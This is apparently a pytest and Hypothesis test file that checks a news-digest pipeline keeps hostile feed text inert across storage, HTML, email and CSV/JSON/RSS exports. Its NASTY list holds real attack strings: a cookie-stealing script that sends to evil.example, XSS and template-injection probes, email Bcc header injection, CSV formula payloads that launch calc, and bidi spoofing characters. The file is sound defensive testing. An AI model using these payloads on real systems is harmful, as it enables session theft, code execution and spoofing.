"""Hostile text from feed to store, tags, digest, export and artifacts: it stays text, and every database takes it."""

import csv
import io
import json
import unicodedata
from datetime import timedelta
from email import message_from_bytes
from email.message import EmailMessage
from email.policy import SMTP, default
from html.parser import HTMLParser
from urllib.parse import urlsplit
from xml.etree import ElementTree as ET

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from sqlmodel import select

from flows.collecting.article_writer import ArticleWriter
from flows.publishing import exporting
from flows.publishing.mailer import build_message, message_id, parse_sender
from flows.publishing.view import Links
from flows.reading.sources.feed import read_feed
from models.admission import Candidate, ReadEntry
from models.edition.compose import compose
from models.edition.content import EditionContent
from models.entries import Entry, Page
from models.outcomes import Outcome, TextStatus
from models.rights import load_rights
from models.sources import Registry, Source
from models.store import collecting, tagging
from models.store.database import Database
from models.store.editions import gather_week
from models.store.tables import Article, Tag
from models.tagging.decisions import State, Tagging, ThemeTag
from models.text_safety import MAX_NAME, MAX_SUMMARY, MAX_TITLE, plain_line, plain_lines, storable, validator
from models.themes import load_themes
from models.weeks import Week
from tests.support.fakes_edition import MONDAY_7, WEEK
from tests.support.fakes_rendering import render, render_artifact, render_web

SOURCE = Source.model_validate({"id": "s", "url": "https://s.example/feed", "name": "Source", "rights": "open"})
REGISTRY = Registry(sources=(SOURCE,), rights=load_rights())
THEMES = load_themes()
LINKS = Links(web="https://m.example/w.html", archive="https://m.example/", unsubscribe="https://m.example/u/t")
NOW = WEEK.start + timedelta(days=2)
NASTY = (
    '<script>fetch("https://evil.example/?"+document.cookie)</script>',
    '"><img src=https://evil.example/x onerror=alert(1)>',
    "</title></td></table><style>*{display:none}</style>",
    "{{ config }} {% for x in y %} ${7*7} #{7*7} <%= 1 %>",
    "ordinary\r\nBcc: everyone@evil.example\r\n\r\nbody",
    "=?utf-8?q?packed=0D=0ABcc:_everyone=40evil.example?=",
    "=?utf-8?b?eA0KQmNjOiBldmVyeW9uZUBldmlsLmV4YW1wbGUNCg0KYm9keQ==?= and =?utf-8?q?=00=1B=E2=80=AE?=",
    '=HYPERLINK("https://evil.example";"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3 and more",
    "  \t=1+1",
    "＝1+1",
    "null\0byte and \ud800 half a character",
    "invoice \u202eexe.fdp\u202c and \u2066isolated\u2069",
    "zero\u200bwidth\ufeff and soft\u00adhyphen",
    "bell\x07 escape \x1b[31mred\x1b[0m \x9b31m delete\x7f",
    "[click](javascript:alert(1)) ![x](https://evil.example/p.png) | cell | `code`",
    "<!--<![CDATA[]]>--> &lt;b&gt; &#0; &#x1F4A9; &nbsp;",
    "javascript:alert(1)",
    "\u2028\u2029\x0b\x0c\x85 line ends",
    "",
    " ",
    "\U0001f469\u200d\u2695\ufe0f nurse and ﷽ and Z̴͈̈ǎ̷l̶g̶o̸",
    "W" * 5000,
    "word " * 4000,
)
texts = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=80),
    st.builds("{}{}{}".format, st.text(max_size=10), st.sampled_from(NASTY), st.text(max_size=10)),
    st.text(st.characters(categories=("Cc", "Cf", "Cs", "Co", "Zl", "Zp", "Zs")), max_size=20),
)


class Story:
    """One hostile entry; the same text may stand anywhere."""

    def __init__(self, title: str, author: str, summary: str, body: str) -> None:
        self.title, self.author, self.summary, self.body = title, author, summary, body


def through_the_feed(story: Story) -> Entry | None:
    """As a source lists it. JSON carries null bytes and half characters, which XML does not."""
    item = {"url": "https://s.example/1", "id": "1", "title": story.title, "summary": story.summary}
    feed = {"version": "https://jsonfeed.org/version/1.1", "title": story.title, "items": [item]}
    item["authors"] = [{"name": story.author}]  # type: ignore[assignment]
    listing = read_feed(json.dumps(feed).encode(), url="https://s.example/feed", now=MONDAY_7)
    return listing.entries[0] if listing.entries else None


def store(database: Database, story: Story) -> EditionContent:
    """Through the writer and the tags into an edition; what the feed reader cleaned, and once more as if it had not."""
    raw = Entry("https://s.example/2", story.title, story.summary, NOW, story.author, outlet=story.title)
    entries = [raw, *filter(None, [through_the_feed(story)])]
    page = Page(story.body, TextStatus.FULL, title=story.title, author=story.author)
    with database.write() as session:
        run = collecting.start_run("collect", NOW, session=session)
    writer = ArticleWriter(database, run, NOW)
    rights = REGISTRY.rights_of("s")
    for entry in entries:
        writer.store([ReadEntry(Candidate(SOURCE, rights, entry), Outcome.NEW, page=page)])
    with database.write() as session:
        for article in tagging.untagged(10, session=session):
            assert article.id is not None
            evidence = (article.text or article.title)[:600]
            tags = tuple(
                ThemeTag(theme, 0.9, State.YES, evidence, (evidence[:20],)) for theme in ("workforce", "patient-care")
            )
            tagging.store_taggings([(article.id, Tagging(0.9, State.YES, tags, "m"))], session=session)
    with database.read() as session:
        facts = gather_week(WEEK, session=session)
    return compose(facts, REGISTRY, THEMES, MONDAY_7)


def check_stored(database: Database) -> None:
    with database.read() as session:
        for article in session.exec(select(Article)):
            for text, longest in (
                (article.title, MAX_TITLE),
                (article.summary, MAX_SUMMARY),
                (article.author or "", MAX_NAME),
                (article.outlet, MAX_NAME),
            ):
                assert len(text) <= longest
                assert not any(unicodedata.category(c)[0] == "C" for c in text)
                assert not {"\n", "\r"} & set(text)
            assert not any(unicodedata.category(c)[0] == "C" and c not in "\n\t" for c in article.text or "")
        for tag in session.exec(select(Tag)):
            tag.evidence.encode()


class Elements(HTMLParser):
    """The elements of a page and their addresses."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            self.attributes.add(name)
            if name in {"href", "src", "action", "background"}:
                self.addresses.append(value or "")


def check_page(page: str) -> None:
    found = Elements()
    found.feed(page)
    assert not found.tags & {"script", "img", "iframe", "object", "embed", "form", "svg", "link", "base"}
    assert not [name for name in found.attributes if name.startswith("on")]
    for address in found.addresses:
        assert urlsplit(address).scheme in {"http", "https", "mailto", ""}, address
        assert urlsplit(address).scheme or address.startswith(("#", "/")) or address.endswith(".html"), address


def check_message(content: EditionContent) -> None:
    sender = parse_sender("Monitor <monitor@m.example>", "https://m.example")
    message = build_message(
        render(content, LINKS),
        sender,
        to_address="reader@r.example",
        to_name=content.stories[0].title if content.stories else "",
        identity=message_id(content.week, "t", "m.example"),
        token="t",
        now=NOW,
    )
    written = message.as_bytes(policy=SMTP)
    again = message_from_bytes(written, policy=default)
    assert isinstance(again, EmailMessage)
    assert [name for name, _ in again.items()] == [name for name, _ in message.items()]
    assert again["Bcc"] is None
    assert [address.addr_spec for address in again["To"].addresses] == ["reader@r.example"]
    assert len([part for part in again.walk() if not part.is_multipart()]) == 2
    assert all(len(line) <= 998 for line in written.split(b"\r\n"))


def check_exports(database: Database) -> None:
    first, last = WEEK.monday, WEEK.monday + timedelta(days=6)
    stories = list(exporting.stories_between(database, REGISTRY, THEMES, first=first, last=last, now=MONDAY_7))
    assert stories
    rows = list(csv.DictReader(io.StringIO(exporting.write_csv(stories), newline="")))
    assert len(rows) == sum(max(len(story.item.themes), 1) for story in stories)
    for row in rows:
        assert None not in row
        for cell in row.values():
            assert not cell.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")), cell
    document = json.loads(exporting.write_json(stories, now=MONDAY_7))
    assert [one["title"] for one in document["stories"]] == [story.item.title for story in stories]
    tree = ET.fromstring(exporting.write_rss(stories, THEMES, base_url="", now=MONDAY_7))
    assert {element.tag for element in tree.iter()} <= {
        *("rss", "channel", "title", "link", "description", "language", "lastBuildDate"),
        *("item", "guid", "pubDate", "category"),
    }
    assert sorted(item.findtext("title", "") for item in tree.iter("item")) == sorted(s.item.title for s in stories)
    for item in tree.iter("item"):
        described = Elements()
        described.feed(item.findtext("description", ""))
        assert described.tags == set()


def check_everything(database: Database, story: Story) -> EditionContent:
    content = store(database, story)
    assert content.stories
    check_stored(database)
    check_page(render(content, LINKS).html)
    check_page(render_web(content))
    check_message(content)
    check_exports(database)
    artifact = render_artifact(content)
    assert "<" not in artifact
    assert "](javascript" not in artifact
    assert "![" not in artifact.replace("\\!\\[", "")
    return content


@pytest.mark.parametrize("text", NASTY, ids=range(len(NASTY)))
def test_each_known_nastiness_stays_text_in_both_databases(database: Database, text: str) -> None:
    check_everything(database, Story(text, text, text, f"{text}\nA second sentence about staff on the ward."))


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(title=texts, author=texts, summary=texts, body=texts)
@example(title="=1+1\0", author="\ud800", summary="\u202e", body="\0")
def test_any_text_stays_text(sqlite: Database, title: str, author: str, summary: str, body: str) -> None:
    with sqlite.write() as session:
        for table in ("tag", "article_alias", "article", "story"):
            session.connection().exec_driver_sql(f"DELETE FROM {table}")
    check_everything(sqlite, Story(title, author, summary, body))


def test_a_megabyte_of_headline_costs_no_more_than_a_long_one(sqlite: Database) -> None:
    content = check_everything(sqlite, Story("M " * 500_000, "A" * 1_000_000, "S\0" * 500_000, "B" * 1_000_000))
    assert all(len(story.title) <= 200 for story in content.stories)


def test_no_heap_of_marks_covers_what_stands_around(sqlite: Database) -> None:
    heap = "\u0e49" * 150 + "\u0489" * 150
    told = check_everything(sqlite, Story(f"Bu{heap}llied", f"Ad{heap}a", f"Nurses{heap} said", "Nurses were bullied."))
    for story in told.stories:
        for text in (story.title, story.outlet):
            assert sum(unicodedata.combining(c) > 0 or unicodedata.category(c) == "Me" for c in text) <= 8, text
    assert plain_line("Siân Ó Bróin, Nguyễn Thị Ánh, A\u0301\u0323 – ‘said so’ …") == (
        "Siân Ó Bróin, Nguyễn Thị Ánh, A\u0301\u0323 – ‘said so’ …"
    )


def test_the_log_of_requests_and_the_hosts_take_anything(database: Database) -> None:
    from flows.fetching.client import HostFacts
    from models.entries import Fetched, Reply

    writer = ArticleWriter(database, 1, NOW)
    with database.write() as session:
        assert collecting.start_run("collect", NOW, session=session) == 1
    hostile = "".join(NASTY)
    writer.save_hosts({"h.example": HostFacts(hostile, 200, NOW)}, {})
    writer.save_requests([Reply("https://h.example/\0\ud800", Fetched.FAILED, NOW, 0.1, detail=hostile)])


@given(st.text())
def test_lines_and_names_hold_no_control_characters(text: str) -> None:
    line = plain_line(text, 50)
    assert len(line) <= 50
    assert line == plain_line(line, 50)
    assert not any(
        unicodedata.category(c)[0] == "C" for c in line + plain_lines(text).replace("\n", "").replace("\t", "")
    )
    storable(text).encode()
    assert "\0" not in storable(text)
    assert plain_lines(plain_lines(text)) == plain_lines(text)


def test_a_validator_that_can_not_be_sent_back_is_forgotten() -> None:
    assert validator('"abc"') == '"abc"'
    assert validator("a\r\nX: y") is None
    assert validator("x" * 5000) is None
    assert validator(None) is None


def test_the_week_of_the_tests_is_the_one_they_look_at() -> None:
    assert Week.of(NOW) == WEEK
